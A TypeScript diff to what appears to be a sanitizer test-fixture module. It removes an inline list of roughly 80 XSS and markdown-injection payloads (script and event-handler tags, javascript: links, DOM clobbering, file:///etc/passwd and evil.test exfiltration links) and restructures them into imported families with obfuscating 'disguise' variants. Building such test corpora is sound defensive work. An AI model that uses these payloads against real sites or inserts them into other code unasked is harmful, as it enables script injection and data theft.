@@ -1,91 +1,16 @@
-/** What attackers write where a program shows their text. `alert(1)` stands for whatever they want. */
-const core: readonly string[] = [
-	'<script>alert(1)</script>',
-	'</script><script>alert(1)</script>',
-	'<script src=https://evil.test/x.js></script>',
-	'<img src=x onerror=alert(1)>',
-	'<img src="https://evil.test/pixel.png">',
-	'"><img src=x onerror=alert(1)>',
-	"'><img src=x onerror=alert(1)>",
-	'" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
-	"' onfocus='alert(1)' autofocus '",
-	'<svg onload=alert(1)>',
-	'<svg><script>alert(1)</script></svg>',
-	'<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
-	'<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
-	'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
-	'<math href="javascript:alert(1)">x</math>',
-	'<iframe src="javascript:alert(1)"></iframe>',
-	'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-	'<object data="javascript:alert(1)"></object>',
-	'<embed src="https://evil.test/x.swf">',
-	'<form action="https://evil.test/"><button>send</button></form>',
-	'<button formaction="javascript:alert(1)">x</button>',
-	'<input autofocus onfocus=alert(1)>',
-	'<details open ontoggle=alert(1)>x</details>',
-	'<video><source onerror=alert(1)></video>',
-	'<audio src=x onerror=alert(1)>',
-	'<body onload=alert(1)>',
-	'<meta http-equiv="refresh" content="0;url=https://evil.test/">',
-	'<base href="https://evil.test/">',
-	'<link rel=stylesheet href="https://evil.test/x.css">',
-	'<style>@import "https://evil.test/x.css";</style>',
-	'<div style="background:url(https://evil.test/x.png)">x</div>',
-	'<marquee onstart=alert(1)>x</marquee>',
-	'<template><img src=x onerror=alert(1)></template>',
-	'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-	'<textarea></textarea><img src=x onerror=alert(1)>',
-	'<title></title><img src=x onerror=alert(1)>',
-	'<!--><img src=x onerror=alert(1)>-->',
-	'<![CDATA[><img src=x onerror=alert(1)>]]>',
-	'<a href="javascript:alert(1)" id="page">x</a>',
-	'<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x>',
-	'<form id=page><input name=dataset></form>',
-	'[x](javascript:alert(1))',
-	'[x](JaVaScRiPt:alert(1))',
-	'[x](java&#115;cript:alert(1))',
-	'[x](javascript&colon;alert(1))',
-	'[x](<java\tscript:alert(1)>)',
-	'[x](&#x6A;avascript:alert(1))',
-	'[x](data:text/html,<script>alert(1)</script>)',
-	'[x](vbscript:alert(1))',
-	'[x](command:workbench.action.quit)',
-	'[x](vscode://evil.ext/x)',
-	'[x](file:///etc/passwd)',
-	'[x](//evil.test/x)',
-	'[x](\\\\evil.test\\x)',
-	'[x](https://evil.test/ "onmouseover=alert(1)")',
-	'[x](https://evil.test/" onmouseover="alert(1))',
-	'![x](https://evil.test/pixel.png)',
-	'![x](data:image/svg+xml,<svg/onload=alert(1)>)',
-	'![x" onerror="alert(1)](https://evil.test/x.png)',
-	'![x](x" onerror="alert(1))',
-	'<javascript:alert(1)>',
-	'<https://evil.test/"onmouseover="alert(1)>',
-	'[x]: javascript:alert(1)\n\n[x]',
-	'# x {#page onclick=alert(1)}',
-	'```"><img src=x onerror=alert(1)>\ncode\n```',
-	'```html\n<script>alert(1)</script>\n```',
-	'`<img src=x onerror=alert(1)>`',
-	'~"><img src=x onerror=alert(1)>',
-	'~alice/"><script>alert(1)</script>#3',
-	'#3"><img src=x onerror=alert(1)>',
-	'https://evil.test/"><img src=x onerror=alert(1)>',
-	'$(zap) {{constructor.constructor("alert(1)")()}} ${alert(1)}',
-	'[__proto__]: x\n\n[__proto__] [constructor]',
-	'\u202E<img src=x onerror=alert(1)>\u202C',
-	'\u0000<img src=x onerror=alert(1)>',
-	'<img/src=x/onerror=alert(1)//',
-	'<<img src=x onerror=alert(1)>',
-	'<img src=x onerror=alert&lpar;1&rpar;>',
-	'&lt;img src=x onerror=alert(1)&gt;',
-	'&#60;img src=x onerror=alert(1)&#62;',
-	'\\<img src=x onerror=alert(1)\\>',
-];
+import { editorFamilies } from './hostile/editorFamilies.ts';
+import type { HostileFamily } from './hostile/family.ts';
+import { markdownFamilies } from './hostile/markdownFamilies.ts';
+import { markupFamilies } from './hostile/markupFamilies.ts';
+
+/** What attackers write where a program shows their text, by what they try. */
+export const hostileFamilies: readonly HostileFamily[] = [...markupFamilies, ...markdownFamilies, ...editorFamilies];
+
+/** Every text once, as it is: each differs from the others in kind. */
+export const plainHostileTexts: readonly string[] = Array.from(new Set(hostileFamilies.flatMap(({ texts }) => texts)));
 
 /** Ways to hide a text from those who look for it. */
 const disguises: readonly ((text: string) => string)[] = [
-	(text) => text,
 	(text) => `> ${text}\n\n- ${text}`,
 	(text) => `| a |\n|---|\n| ${text.replaceAll('|', '')} |`,
 	(text) => `**${text}** *${text}* ~~${text}~~`,
@@ -93,10 +18,25 @@ const disguises: readonly ((text: string) => string)[] = [
 	(text) => text.replaceAll(/[a-z]/g, (letter, at: number) => (at % 2 === 0 ? letter.toUpperCase() : letter)),
 ];
 
-/** At least 400 different hostile texts. */
+/** The plain texts first, then each of them in every disguise. */
 export const hostileTexts: readonly string[] = Array.from(
-	new Set(disguises.flatMap((disguise) => core.map((text) => disguise(text)))),
+	new Set([...plainHostileTexts, ...disguises.flatMap((disguise) => plainHostileTexts.map(disguise))]),
 );
 
-/** The texts as they are, without disguise. */
-export const plainHostileTexts = core;
+/** About `count` of the plain texts, some of every family. */
+export function hostileSpread(count: number): readonly string[] {
+	const share = count / plainHostileTexts.length;
+	return Array.from(
+		new Set(
+			hostileFamilies.flatMap(({ texts }) => {
+				const wanted = Math.min(texts.length, Math.max(1, Math.round(texts.length * share)));
+				return Array.from({ length: wanted }, (_, at) => texts[Math.floor((at * texts.length) / wanted)] ?? '');
+			}),
+		),
+	);
+}
+
+/** The texts in groups of at most `size`. */
+export function inGroups(texts: readonly string[], size: number): readonly (readonly string[])[] {
+	return Array.from({ length: Math.ceil(texts.length / size) }, (_, at) => texts.slice(at * size, (at + 1) * size));
+}
